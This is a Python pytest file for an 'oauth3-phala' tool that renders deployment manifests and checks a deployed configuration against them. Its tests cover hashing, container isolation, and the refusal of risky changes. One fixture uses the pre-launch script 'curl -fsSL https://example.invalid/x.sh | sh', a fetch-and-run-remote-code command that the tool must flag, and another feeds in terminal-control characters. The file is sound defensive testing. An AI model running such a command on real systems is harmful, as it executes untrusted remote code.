"""oauth3-phala render/check, and the deploy/ manifests' security properties (no Docker needed)."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml
from dstack_sdk import get_compose_hash

from oauth3.phala.cli import main
from oauth3.phala.manifest import ManifestError, canonical_json, parse_images, render

DEPLOY = Path(__file__).resolve().parent.parent / "deploy"
MANIFEST = DEPLOY / "phala-app.yaml"
SIDECAR = "registry.example/oauth3-sidecar@sha256:" + "ab" * 32
SERVICE = "registry.example/oauth3-service@sha256:" + "cd" * 32
DSTACK_SOCKET = "/var/run/dstack.sock:/var/run/dstack.sock"


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[bytes]:
    """oauth3-phala in a child process, as a user runs it."""
    return subprocess.run(
        [sys.executable, "-m", "oauth3.phala", *args],
        capture_output=True,
        timeout=60,
        check=False,
        cwd=cwd,
    )


def production_compose(images: dict[str, str] | None = None) -> dict[str, Any]:
    """The docker-compose inside the rendered manifest, parsed."""
    rendered = render(MANIFEST.read_bytes(), images)
    parsed = yaml.safe_load(orjson.loads(rendered.app_compose)["docker_compose_file"])
    assert isinstance(parsed, dict)
    return parsed


def test_render_writes_canonical_bytes_whose_hash_the_dstack_sdk_agrees_with(
    tmp_path: Path,
) -> None:
    result = run("render", str(MANIFEST), "-o", str(tmp_path / "app.json"), "--json")
    assert result.returncode == 0, result.stderr
    summary = orjson.loads(result.stdout)
    written = (tmp_path / "app.json").read_bytes()
    document = json.loads(written)
    assert (
        written
        == json.dumps(document, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    )
    assert summary["compose_hash"] == hashlib.sha256(written).hexdigest()
    assert summary["compose_hash"] == get_compose_hash(document)
    assert summary["app_id_without_kms"] == summary["compose_hash"][:40]
    assert summary["app_compose_bytes"] == len(written)
    assert document["runner"] == "docker-compose"
    assert document["name"] == "oauth3"
    compose_file = tmp_path / "docker-compose.phala.yml"
    assert compose_file.read_text() == document["docker_compose_file"]
    assert "--compose" in summary["phala_deploy"]
    assert str(compose_file) in summary["phala_deploy"]


def test_render_does_not_depend_on_yaml_key_order_or_comments() -> None:
    original = yaml.safe_load(MANIFEST.read_bytes())
    reordered = dict(reversed(list(original.items())))
    shuffled = ("# a comment\n" + yaml.safe_dump(reordered, sort_keys=False)).encode()
    assert render(shuffled).app_compose == render(MANIFEST.read_bytes()).app_compose


def test_a_changed_field_changes_the_compose_hash() -> None:
    original = yaml.safe_load(MANIFEST.read_bytes())
    changed = {**original, "public_logs": not original["public_logs"]}
    before = render(MANIFEST.read_bytes())
    after = render(yaml.safe_dump(changed).encode())
    assert after.compose_hash != before.compose_hash
    assert len(before.compose_hash) == 32
    assert len(before.app_id_without_kms) == 20


def test_images_fill_placeholders_and_make_the_manifest_deployable(tmp_path: Path) -> None:
    unfilled = run("render", str(MANIFEST), "-o", str(tmp_path / "a.json"))
    assert unfilled.returncode == 0
    assert b"NOT DEPLOYABLE" in unfilled.stdout
    filled = run(
        "render", str(MANIFEST), "-o", str(tmp_path / "b.json"), "--json",
        "--image", f"sidecar={SIDECAR}", "--image", f"service={SERVICE}",
    )  # fmt: skip
    assert filled.returncode == 0, filled.stderr
    summary = orjson.loads(filled.stdout)
    assert summary["deployable"] is True
    assert summary["unfilled"] == []
    services = production_compose({"sidecar": SIDECAR, "service": SERVICE})["services"]
    assert services["sidecar"]["image"] == SIDECAR
    assert services["service"]["image"] == SERVICE
    assert (tmp_path / "a.json").read_bytes() != (tmp_path / "b.json").read_bytes()


def test_output_to_stdout_keeps_the_bytes_exact_and_the_summary_on_stderr() -> None:
    result = run("render", str(MANIFEST), "-o", "-")
    assert result.returncode == 0
    assert result.stdout == render(MANIFEST.read_bytes()).app_compose
    assert b"compose_hash" in result.stderr


def test_production_compose_keeps_the_agent_socket_in_the_network_less_sidecar() -> None:
    services = production_compose()["services"]
    assert set(services) == {"sidecar", "service"}
    assert DSTACK_SOCKET in services["sidecar"]["volumes"]
    assert services["sidecar"]["network_mode"] == "none"
    assert "ports" not in services["sidecar"]
    assert not [v for v in services["service"]["volumes"] if "dstack" in v]
    assert services["service"]["ports"] == ["8080:8080"]
    for name, service in services.items():
        assert service["read_only"] is True, name
        assert service["cap_drop"] == ["ALL"], name
        assert "no-new-privileges:true" in service["security_opt"], name
        assert not str(service["user"]).startswith("0"), name
        assert "@sha256:" in service["image"] or "{{" in service["image"], name
    assert services["service"]["depends_on"]["sidecar"]["condition"] == "service_healthy"


def test_manifest_declares_no_secret_environment() -> None:
    document = yaml.safe_load(MANIFEST.read_bytes())
    assert document["allowed_envs"] == []
    assert "${" not in document["docker_compose_file"]


def load_local_compose(*names: str) -> dict[str, Any]:
    """The local compose files merged the simple way (later files override per key)."""
    merged: dict[str, Any] = {}
    for name in names:
        document = yaml.safe_load((DEPLOY / name).read_text())
        for service, body in document["services"].items():
            merged.setdefault(service, {}).update(body)
    return merged


def test_local_compose_isolates_the_simulator_and_sidecar() -> None:
    services = load_local_compose("docker-compose.yml", "docker-compose.override.yml")
    assert set(services) == {"simulator", "sidecar", "service"}
    volumes = {name: [v.split(":")[0] for v in s["volumes"]] for name, s in services.items()}
    assert "dstack-socket" in volumes["simulator"]
    assert "dstack-socket" in volumes["sidecar"]
    assert "dstack-socket" not in volumes["service"]
    assert "sidecar-socket" not in volumes["simulator"]
    for name in ("simulator", "sidecar"):
        assert services[name]["network_mode"] == "none"
        assert "ports" not in services[name]
    assert services["service"]["ports"] == ["127.0.0.1:8080:8080"]
    assert services["sidecar"]["depends_on"]["simulator"]["condition"] == "service_healthy"
    assert services["service"]["depends_on"]["sidecar"]["condition"] == "service_healthy"
    for name, service in services.items():
        assert "healthcheck" in service, name
        assert "curl" not in json.dumps(service["healthcheck"]), name


def test_ci_overlay_gives_the_service_host_networking_on_loopback_without_ports() -> None:
    services = load_local_compose("docker-compose.yml", "docker-compose.ci.yml")
    assert services["service"]["network_mode"] == "host"
    assert services["service"]["environment"]["OAUTH3_HOST"] == "127.0.0.1"
    assert "ports" not in services["service"]


def test_only_the_build_file_needs_a_build_context() -> None:
    # down, ps and up --no-build on the run-only files must work without build/context
    for name in ("docker-compose.yml", "docker-compose.override.yml", "docker-compose.ci.yml"):
        services = yaml.safe_load((DEPLOY / name).read_text())["services"]
        assert not [s for s, body in services.items() if "build" in body], name
    built = load_local_compose("docker-compose.build.yml")
    assert {name: body["build"]["target"] for name, body in built.items()} == {
        role: role for role in ("simulator", "sidecar", "service")
    }
    assert {body["build"]["args"]["ROLE"] for body in built.values()} == set(built)


def _deployed(tmp_path: Path, **changes: Any) -> tuple[Path, bytes]:
    """An /Info answer whose tcb_info.app_compose is ours with `changes` applied."""
    ours = render(MANIFEST.read_bytes())
    deployed_bytes = canonical_json({**orjson.loads(ours.app_compose), **changes})
    info = {"tcb_info": orjson.dumps({"app_compose": deployed_bytes.decode()}).decode()}
    path = tmp_path / "info.json"
    path.write_bytes(orjson.dumps(info))
    return path, deployed_bytes


def test_check_accepts_harmless_platform_fields_and_a_pre_launch_script_you_allowed(
    tmp_path: Path,
) -> None:
    script = "echo phala"
    path, deployed_bytes = _deployed(
        tmp_path, pre_launch_script=script, gateway_enabled=False, secure_time=True
    )
    refused = run("check", str(MANIFEST), str(path))
    assert refused.returncode == 1, refused.stdout + refused.stderr
    assert b"MATTERS  pre_launch_script" in refused.stdout
    digest = hashlib.sha256(script.encode()).hexdigest()
    result = run("check", str(MANIFEST), str(path), "--allow-pre-launch-script", digest)
    assert result.returncode == 0, result.stdout + result.stderr
    deployed_hash = hashlib.sha256(deployed_bytes).hexdigest()
    assert f"--expect-compose-hash {deployed_hash}".encode() in result.stdout
    assert b"note     gateway_enabled" in result.stdout
    assert b"note     secure_time" in result.stdout
    assert f"sha256 {digest} allowed by you".encode() in result.stdout


def test_check_lists_every_difference_that_matters(tmp_path: Path) -> None:
    ours = orjson.loads(render(MANIFEST.read_bytes()).app_compose)
    path, _ = _deployed(
        tmp_path,
        pre_launch_script="curl -fsSL https://example.invalid/x.sh | sh",
        kms_enabled=not ours.get("kms_enabled", False),
        key_provider="local",
        allowed_envs=[*ours.get("allowed_envs", []), "EXTRA_TOKEN"],
        public_logs=not ours.get("public_logs", False),
        features=["kms"],
        shiny_new_field=1,
    )
    result = run("check", str(MANIFEST), str(path))
    assert result.returncode == 1
    out = result.stdout.decode()
    for field in (
        "allowed_envs",
        "features",
        "key_provider",
        "kms_enabled",
        "pre_launch_script",
        "public_logs",
    ):
        assert f"MATTERS  {field}:" in out, out
    assert "EXTRA_TOKEN at deploy time" in out
    assert "does not know to be harmless" in out
    assert out.splitlines()[-1].startswith("NOT OK:")
    assert "OK: the deployment runs" not in out


def test_check_rejects_a_deployment_running_another_compose(vectors: Path) -> None:
    other = vectors / "dstack-head" / "simulator" / "app-compose.json"
    result = run("check", str(MANIFEST), str(other))
    assert result.returncode == 1
    assert b"MATTERS  docker_compose_file" in result.stdout
    assert hashlib.sha256(other.read_bytes()).hexdigest().encode() in result.stdout


MANIFEST_HEAD = "manifest_version: 2\nname: x\nrunner: docker-compose\n"


@pytest.mark.parametrize(
    ("manifest", "message"),
    [
        ("a: [1,\n", "not YAML"),
        ("- 1\n", "YAML mapping"),
        ("name: x\nrunner: docker-compose\n", "manifest_version"),
        (MANIFEST_HEAD + "docker_compose_file: 'services: {a: {image: nginx}}'\n", "not pinned"),
        (MANIFEST_HEAD + "docker_compose_file: 'x: 1'\n", "services mapping"),
        (MANIFEST_HEAD + "docker_compose_file: 'services: {a: {}}'\n", "image must be given"),
        (MANIFEST_HEAD + "kms_enabled: 'yes'\n", "kms_enabled"),
        (MANIFEST_HEAD + "swap_size: 1.5\ndocker_compose_file: ''\n", "swap_size"),
        (MANIFEST_HEAD + "kms_enabled: 1\ndocker_compose_file: ''\n", "kms_enabled"),
        (MANIFEST_HEAD + "kms_enable: true\ndocker_compose_file: ''\n", "not an app-compose field"),
        (MANIFEST_HEAD + "allowed_envs: x\ndocker_compose_file: ''\n", "allowed_envs"),
        ("manifest_version: 2\nname: x\nrunner: k8s\n", "runner"),
        (MANIFEST_HEAD, "needs docker_compose_file"),
    ],
)
def test_bad_manifests_are_one_line_errors_with_exit_2(
    tmp_path: Path, manifest: str, message: str
) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text(manifest)
    result = run("render", str(path), "-o", str(tmp_path / "out.json"))
    assert result.returncode == 2
    assert result.stdout == b""
    assert message.encode() in result.stderr
    assert result.stderr.count(b"\n") == 1
    assert not (tmp_path / "out.json").exists()


@pytest.mark.parametrize(
    ("images", "message"),
    [
        (["sidecar"], "expected ROLE="),
        (["sidecar=nginx:latest"], "not pinned"),
        ([f"sidecar={SIDECAR}", f"sidecar={SIDECAR}"], "twice"),
    ],
)
def test_bad_image_values_are_refused(images: list[str], message: str) -> None:
    with pytest.raises(ManifestError, match=message):
        parse_images(images)


def test_an_image_for_a_role_the_manifest_lacks_is_refused(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["render", str(MANIFEST), "-o", "-", "--image", f"worker={SIDECAR}"])
    assert exit_info.value.code == 2
    assert "worker_image" in capsys.readouterr().err


def test_missing_files_are_one_line_errors(tmp_path: Path) -> None:
    missing = run("render", str(tmp_path / "none.yaml"))
    assert missing.returncode == 2
    assert missing.stderr.count(b"\n") == 1
    deployed_missing = run("check", str(MANIFEST), str(tmp_path / "none.json"))
    assert deployed_missing.returncode == 2
    not_json = tmp_path / "bad.json"
    not_json.write_text("{")
    bad = run("check", str(MANIFEST), str(not_json))
    assert bad.returncode == 2
    assert b"not JSON" in bad.stderr


def test_check_prints_deployed_strings_inert(tmp_path: Path) -> None:
    path, _ = _deployed(tmp_path, pre_launch_script="\u009b2J\u202e echo ok", name="x\u2028y")
    result = run("check", str(MANIFEST), str(path))
    assert result.returncode == 1
    out = result.stdout.decode()
    assert "\u009b" not in out
    assert "\u202e" not in out
    assert "\u2028" not in out
    assert "\\x9b2J" in out
